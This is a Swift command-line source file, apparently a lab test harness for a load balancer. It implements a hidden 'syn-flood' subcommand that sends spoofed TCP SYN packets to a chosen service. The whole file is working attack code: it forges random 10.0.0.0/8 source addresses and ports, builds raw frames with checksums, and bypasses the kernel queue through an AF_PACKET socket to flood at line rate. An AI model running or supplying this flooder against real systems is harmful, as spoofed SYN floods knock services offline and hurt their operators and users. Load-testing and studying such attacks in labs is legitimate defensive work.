import ArgumentParser
import Foundation
import Packet

/// A spoofed SYN flood for labs: IPv4 TCP SYNs to one service, each from a random address of 10.0.0.0/8 and
/// a random port (so each is a new flow), written straight onto an interface with an AF_PACKET socket that
/// bypasses the qdisc. Paced to `--rate` when given. Prints one JSON line: frames sent, send failures and
/// seconds taken.
struct SYNFloodCommand: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "syn-flood",
        abstract: "Send spoofed TCP SYNs from random addresses to a service (for labs).",
        shouldDisplay: false
    )

    @Option(help: "Interface to send on (the frames go to --gateway-mac, bypassing routing).")
    var interface: String

    @Option(name: .customLong("gateway-mac"), help: "Destination MAC address: the director's interface.")
    var gatewayMAC: String

    @Option(help: "Service address (IPv4).")
    var address: String

    @Option(help: "Service TCP port.")
    var port: UInt16

    @Option(help: "SYNs to send.")
    var count: Int = 1_000_000

    @Option(help: "SYNs per second; 0: as fast as the interface takes them.")
    var rate: Int = 0

    @Option(help: "Stop after this many seconds even if --count is not reached.")
    var seconds: Double = 600

    @Option(help: "Seed of the random sources.")
    var seed: UInt64 = 0x9E37_79B9_7F4A_7C15

    func run() throws {
        guard case .v4(let target)? = IPAddress(address) else { throw failure("--address \(address): not IPv4") }
        guard let gateway = MACAddress(gatewayMAC) else { throw failure("--gateway-mac \(gatewayMAC): not a MAC") }
        let index = if_nametoindex(interface)
        guard index != 0 else { throw failure("--interface \(interface): no such interface") }
        let ownText = (try? String(contentsOfFile: "/sys/class/net/\(interface)/address", encoding: .utf8)) ?? ""
        guard let own = MACAddress(ownText.trimmingCharacters(in: .whitespacesAndNewlines)) else {
            throw failure("cannot read the MAC address of \(interface)")
        }
        // Protocol 0: this socket only sends, so it is never handed a copy of the interface's traffic.
        let fd = socket(AF_PACKET, Int32(SOCK_RAW.rawValue), 0)
        guard fd >= 0 else { throw failure("socket(AF_PACKET): \(String(cString: strerror(errno)))") }
        defer { close(fd) }
        var bypass: Int32 = 1  // PACKET_QDISC_BYPASS: straight to the driver, as a generator wants.
        setsockopt(fd, Int32(SOL_PACKET), 20, &bypass, socklen_t(MemoryLayout<Int32>.size))
        // struct sockaddr_ll (linux/if_packet.h, which Glibc's module does not carry): family, protocol (network
        // order), interface index; the rest (hardware type, packet type, address) unused for sending.
        var link = [UInt8](repeating: 0, count: 20)
        link.withUnsafeMutableBytes { raw in
            raw.storeBytes(of: UInt16(AF_PACKET), toByteOffset: 0, as: UInt16.self)
            raw.storeBytes(of: UInt16(0x0800).bigEndian, toByteOffset: 2, as: UInt16.self)  // ETH_P_IP
            raw.storeBytes(of: Int32(index), toByteOffset: 4, as: Int32.self)
        }
        let bound = link.withUnsafeBytes {
            bind(fd, $0.baseAddress!.assumingMemoryBound(to: sockaddr.self), socklen_t($0.count))
        }
        guard bound == 0 else { throw failure("bind to \(interface): \(String(cString: strerror(errno)))") }

        var frame = Self.template(from: own, to: gateway, service: target, port: port)
        var random = seed | 1
        var sent = 0, failed = 0
        let started = Date()
        let deadline = started.addingTimeInterval(seconds)
        while sent < count {
            // Pace in batches of 64: one clock read per batch.
            if sent & 63 == 0 {
                let now = Date()
                if now >= deadline { break }
                if rate > 0 {
                    let due = started.addingTimeInterval(Double(sent) / Double(rate))
                    let ahead = due.timeIntervalSince(now)
                    if ahead > 0 { usleep(useconds_t(ahead * 1_000_000)) }
                }
            }
            // xorshift64: a new source address and port for every SYN.
            random ^= random << 13; random ^= random >> 7; random ^= random << 17
            let source = 0x0A00_0000 | UInt32(truncatingIfNeeded: random) & 0x00FF_FFFF
            let sourcePort = UInt16(truncatingIfNeeded: random >> 32) | 1024
            frame.withUnsafeMutableBytes { Self.stamp($0.baseAddress!, source: source, port: sourcePort, service: target) }
            let result = frame.withUnsafeBytes { send(fd, $0.baseAddress, $0.count, 0) }
            if result == frame.count { sent += 1 } else { failed += 1; if failed > count { break } }
        }
        let elapsed = Date().timeIntervalSince(started)
        let report: [String: Any] = ["sent": sent, "failed": failed, "seconds": (elapsed * 1000).rounded() / 1000,
                                     "rate": elapsed > 0 ? Int(Double(sent) / elapsed) : 0]
        let data = try JSONSerialization.data(withJSONObject: report, options: [.sortedKeys])
        print(String(decoding: data, as: UTF8.self))
        fflush(nil)
    }

    /// Ethernet, IPv4 (DF, TTL 64) and a 20-byte TCP SYN; `stamp` fills in the source and the checksums.
    static func template(from source: MACAddress, to destination: MACAddress, service: UInt32, port: UInt16) -> [UInt8] {
        var frame = destination.bytes + source.bytes + [0x08, 0x00]
        frame += [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, IPProtocolNumber.tcp, 0, 0, 0, 0, 0, 0]
        frame += (0..<4).map { UInt8(truncatingIfNeeded: service >> (24 - 8 * $0)) }
        frame += [0, 0, UInt8(port >> 8), UInt8(truncatingIfNeeded: port), 0x12, 0x34, 0x56, 0x78, 0, 0, 0, 0,
                  0x50, 0x02 /* SYN */, 0xFA, 0xF0, 0, 0, 0, 0]
        return frame
    }

    /// Writes the source address and port into the template at `frame`, and both checksums.
    static func stamp(_ frame: UnsafeMutableRawPointer, source: UInt32, port: UInt16, service: UInt32) {
        let ip = frame + 14, tcp = ip + 20
        ip.storeBytes(of: source.bigEndian, toByteOffset: 12, as: UInt32.self)
        ip.storeBytes(of: 0, toByteOffset: 10, as: UInt16.self)
        ip.storeBytes(of: InternetChecksum.checksum(ip, count: 20).bigEndian, toByteOffset: 10, as: UInt16.self)
        tcp.storeBytes(of: port.bigEndian, toByteOffset: 0, as: UInt16.self)
        tcp.storeBytes(of: 0, toByteOffset: 16, as: UInt16.self)
        let pseudo = InternetChecksum.pseudoHeaderSum(ipv4Source: source, destination: service,
                                                      proto: IPProtocolNumber.tcp, length: 20)
        tcp.storeBytes(of: InternetChecksum.checksum(tcp, count: 20, initial: pseudo).bigEndian, toByteOffset: 16,
                       as: UInt16.self)
    }
}
